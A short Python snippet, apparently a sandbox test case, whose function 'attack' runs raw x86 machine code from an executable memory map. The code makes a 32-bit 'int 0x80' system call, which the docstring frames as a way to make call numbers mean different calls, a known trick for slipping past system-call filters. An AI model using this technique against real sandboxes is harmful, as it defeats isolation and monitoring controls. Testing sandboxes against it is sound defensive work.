"""Calls the kernel as a 32-bit program, whose numbers mean other calls."""


def attack():
    import ctypes
    import mmap

    code = bytes.fromhex('b839000000cd80c3')  # mov eax, 57; int 0x80; ret
    space = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    space.write(code)
    return [ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(space)))()]
